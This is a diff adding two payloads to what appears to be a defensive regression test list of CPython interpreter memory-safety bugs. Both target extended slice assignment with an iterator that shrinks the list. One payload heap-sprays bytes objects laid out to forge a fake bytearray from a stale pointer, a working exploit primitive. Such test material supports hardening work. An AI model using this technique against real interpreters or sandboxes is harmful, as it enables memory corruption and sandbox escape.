@@ -6247,6 +6247,47 @@ PAYLOADS = [
                 return "the code ran inside int(): %r %r" % (CALLS, shown)
             raise LookupError("no call: %r" % shown)
         """, on={GUARD}, off={OK}),
+    # review 76 (gh-120384, fixed upstream in 3.12 only): a list's
+    # extended slice assignment worked out the slice, then ran the code's
+    # __iter__, which shrank the list: the items went past the end of its
+    # array (a fake bytearray, then the real builtins)
+    Payload("list-extended-slice-iter-shrinks-list", """
+        class Evil:
+            def __init__(self, lst):
+                self.lst = lst
+            def __iter__(self):
+                yield from self.lst
+                self.lst.clear()
+        def main():
+            lst = list(range(10))
+            lst[::-1] = Evil(lst)
+            return repr(lst)[:200]
+        """, on={EXCEPTION}, off={CRASH, OK, EXCEPTION}),
+    Payload("list-extended-slice-fake-bytearray", """
+        class Evil:
+            def __init__(self, lst, n, spray, proto):
+                self.lst = lst
+                self.n = n
+                self.spray = spray
+                self.proto = proto
+            def __iter__(self):
+                yield bytearray
+                del self.lst[self.n:]
+                for i in range(64):
+                    self.spray.append(bytes(self.proto))
+        def main():
+            victim = bytearray(8)
+            proto = bytearray(180)
+            proto[8:16] = id(victim).to_bytes(8, "little")
+            pre = [bytes(180) for i in range(3000)]
+            lst = [0] * 64
+            spray = []
+            lst[29:30:2] = Evil(lst, 20, spray, proto)
+            found = [x for x in spray if isinstance(x, bytearray)]
+            if found:
+                return "a bytes object became a bytearray: %d" % len(found)
+            raise LookupError("no fake bytearray (%d)" % len(pre))
+        """, on={EXCEPTION}, off={CRASH, OK, EXCEPTION}),
     Payload("make-dataclass-str-base-own-startswith", """
         import dataclasses
         def main():
